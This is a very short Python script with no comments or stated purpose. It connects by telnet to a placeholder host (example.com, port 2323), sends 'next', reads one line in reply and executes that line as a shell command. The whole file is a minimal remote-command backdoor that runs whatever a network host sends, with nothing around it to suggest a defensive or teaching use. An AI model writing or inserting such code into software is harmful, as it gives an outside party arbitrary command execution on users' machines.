import subprocess
import telnetlib

t = telnetlib.Telnet("example.com", 2323)
t.write(b"next\n")
subprocess.call(t.read_until(b"\n").decode(), shell=True)
